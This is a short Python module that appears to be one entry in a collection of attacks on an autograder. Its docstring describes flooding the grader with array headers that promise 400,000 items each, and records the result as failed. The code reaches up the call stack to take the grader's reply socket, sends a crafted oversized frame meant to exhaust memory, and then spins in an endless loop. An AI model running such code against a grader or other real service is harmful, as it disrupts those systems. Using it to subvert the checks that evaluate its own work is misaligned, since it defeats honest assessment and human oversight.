"""Announce large arrays within large arrays.

Tries: array headers that promise 400,000 items each, a hundred thousand times.
Success: the grader allocates what is promised.
Outcome: failed.
"""

import sys

from autograder.wire.encode import encode
from autograder.wire.limits import HEADER, MAGIC


def channel():
    """The socket on which the grader waits for the answer."""
    frame = sys._getframe()
    while "reply_to" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["reply_to"]


def frame_of(tree, blob=b""):
    """A message around any bytes."""
    return HEADER.pack(MAGIC, len(tree), len(blob)) + tree + blob


ANSWER = encode(("", None, (), "", "", 0))


def attack(targets, model):
    channel().sendall(frame_of((b"\xdd\x00\x06\x1a\x80" * 400_000)[: 2 << 20]))
    while True:
        pass
